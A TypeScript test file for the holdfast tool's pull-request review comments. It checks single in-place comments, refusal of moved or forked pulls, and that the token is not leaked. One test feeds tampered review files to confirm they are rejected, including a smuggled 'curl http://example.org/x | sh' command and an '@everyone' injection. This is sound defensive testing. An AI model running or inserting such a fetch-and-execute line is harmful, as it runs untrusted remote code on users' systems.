/**
 * The review of a pull request from the command line to its comment, against the stand-in, which holds each request
 * and answer against GitHub's own API description: one comment, edited in place, and none where the pull request is
 * not the one that was judged.
 */
import { execFileSync } from "node:child_process";
import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { reviewMarker } from "../../../src/report/review-comment.ts";
import { holdfast, policiesPath } from "../../e2e/holdfast.ts";
import { type Github, startGithub } from "../../servers/github.ts";

let folder: string;
let base: string;
let head: string;
let reviewText: string;
let github: Github;

const git = (...args: string[]) =>
  execFileSync("git", ["-C", folder, "-c", "user.name=t", "-c", "user.email=t@example.org", ...args], {
    encoding: "utf8",
  }).trim();

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "holdfast-review-"));
  await cp(policiesPath, join(folder, "policies"), { recursive: true });
  git("init", "--quiet", "--initial-branch=main");
  git("add", ".");
  git("commit", "--quiet", "-m", "all");
  base = git("rev-parse", "HEAD");
  const path = join(folder, "policies/retention.yaml");
  const table = await readFile(path, "utf8");
  expect(table).toMatch(/monthly: 12/);
  await writeFile(path, table.replace(/monthly: 12/, "monthly: 11"));
  git("commit", "--quiet", "-am", "less");
  head = git("rev-parse", "HEAD");
  const made = await run(["plan", "--base", "HEAD^", "--head", "HEAD", "--offline", "--format", "json"]);
  expect(made.stderr).toBe("");
  reviewText = made.stdout;
});
afterAll(() => rm(folder, { recursive: true, force: true }));
beforeEach(async () => {
  github = await startGithub({ repository: "octo-org/backups" });
  await writeFile(join(folder, "review.json"), reviewText);
});
afterEach(async () => {
  expect(github.faults).toEqual([]);
  await github.close();
});

const run = (args: readonly string[], env: Readonly<Record<string, string>> = {}) =>
  holdfast(args, {
    cwd: folder,
    env: {
      HOLDFAST_POLICIES: "policies",
      GITHUB_REF: "",
      HOLDFAST_GITHUB_TOKEN: github?.token ?? "",
      GITHUB_API_URL: github?.url ?? "http://127.0.0.1:9",
      GITHUB_REPOSITORY: "octo-org/backups",
      ...env,
    },
  });
const post = (...args: string[]) => run(["comment", "review.json", "--post", ...args]);
const comments = (number: number) => github.issues[number - 1]?.comments ?? [];

describe("a review", () => {
  it("names the commits that the revisions are, and can be had again by its command", async () => {
    const review = JSON.parse(reviewText);
    expect(review).toMatchObject({
      base: { revision: base },
      head: { revision: head },
      catalogueKnown: false,
    });
    expect(review.command).toContain(`--base ${base} --head ${head} --offline --as-of `);
    const again = await run([...review.command.split(" ").slice(1), "--format", "json"]);
    expect(JSON.parse(again.stdout).hash).toBe(review.hash);
  });
  it("becomes one comment that is edited in place, whatever stands around it", async () => {
    const number = github.openPull({ title: "t", headSha: head, baseSha: base });
    const pull = github.issues[number - 1];
    const other = (id: number, author: string, body: string) =>
      pull?.comments.push({ id, body, author, createdAtMs: 0, updatedAtMs: 0 });
    for (let i = 0; i < 130; i += 1) other(1 + i, "mona", `talk ${i}`);
    other(500, "mallory", `${reviewMarker}\nall is well`);
    expect((await post("--pull", String(number))).stdout).toContain("comment created");
    expect((await post("--pull", String(number))).stdout).toContain("comment unchanged");
    await writeFile(
      join(folder, "review.json"),
      reviewText.replace(/"catalogueKnown": false/, '"catalogueKnown": true'),
    );
    expect((await post("--pull", String(number))).stdout).toContain("comment edited");
    const ours = comments(number).filter((c) => c.author === github.login);
    expect(ours).toHaveLength(1);
    expect(ours[0]?.body).not.toContain("could not be read here");
    expect(comments(number).find((c) => c.id === 500)?.body).toContain("all is well");
    expect(comments(number)).toHaveLength(132);
  });
  it("leaves one of two comments that two runs have made at once", async () => {
    const number = github.openPull({ title: "t", headSha: head, baseSha: base });
    for (const id of [1, 2])
      github.issues[number - 1]?.comments.push({
        id,
        body: `${reviewMarker}\nold`,
        author: github.login,
        createdAtMs: 0,
        updatedAtMs: 0,
      });
    await post("--pull", String(number));
    expect(comments(number).map((c) => c.id)).toEqual([1]);
    expect(comments(number)[0]?.body).not.toContain(`${reviewMarker}\nold`);
  });
  it("goes to the pull request it is about and to no other", async () => {
    const ours = github.openPull({ title: "t", headSha: head, baseSha: base });
    const moved = github.openPull({ title: "t", headSha: base, baseSha: base });
    const fork = github.openPull({ title: "t", headSha: head, baseSha: base, fork: "mallory/backups" });
    const judged = ["--head-commit", head, "--head-repository", "octo-org/backups"];
    expect((await post("--pull", String(moved), ...judged)).stdout).toContain("not posted");
    expect((await post("--pull", String(fork), ...judged)).stdout).toContain("not posted");
    expect((await post("--pull", String(ours), ...judged)).stdout).toContain("comment created");
    expect([ours, moved, fork].map((n) => comments(n).length)).toEqual([1, 0, 0]);
    const fromFork = ["--head-commit", head, "--head-repository", "mallory/backups"];
    expect((await post("--pull", String(fork), ...fromFork)).stdout).toContain("comment created");
    expect(comments(fork)[0]?.body).toContain("A run of mallory/backups has computed this");
    expect(comments(ours)[0]?.body).not.toContain("has computed this");
    expect(github.requests.filter((r) => r.method !== "GET")).toHaveLength(2);
  });
  it("is posted by plan itself where the runner has the right", async () => {
    const number = github.openPull({ title: "t", headSha: head, baseSha: base });
    const env = { GITHUB_REF: `refs/pull/${number}/merge` };
    const ran = await run(["plan", "--base", base, "--offline", "--post", "--format", "markdown"], env);
    expect(ran.stderr).toContain("comment created");
    expect(comments(number)[0]?.body.trimEnd()).toContain(reviewMarker);
  });
  it("that was changed, grew too large or is something else is refused before GitHub is asked", async () => {
    const broken = [
      reviewText.replace('"reachMs": ', '"reachMs": 1'),
      reviewText.replace("holdfast plan", "curl http://example.org/x | sh # holdfast plan"),
      reviewText.replace(/"hash": "/, '"hash": "@everyone '),
      "x".repeat(9 * 1024 * 1024),
      "[]",
      "null",
    ];
    for (const text of broken) {
      await writeFile(join(folder, "review.json"), text);
      const ran = await post("--pull", "1");
      expect({ status: ran.status, out: ran.stdout }).toEqual({ status: 2, out: "" });
    }
    expect(github.requests).toEqual([]);
  });
  it("meets a GitHub that refuses with its reason and without the token", async () => {
    const number = github.openPull({ title: "t", headSha: head, baseSha: base });
    github.denied.add("issues/create-comment");
    const denied = await post("--pull", String(number));
    expect(denied.status).toBe(10);
    expect(denied.stderr).toContain("lacks the right to write to pull requests");
    github.token = "another";
    const expired = await run(["comment", "review.json", "--post", "--pull", "1"], {
      HOLDFAST_GITHUB_TOKEN: "an-old-one-of-ours",
    });
    expect(expired.status).toBe(10);
    expect(denied.stderr + expired.stderr).not.toMatch(/token-of-the-stand-in|an-old-one-of-ours/);
  });
});
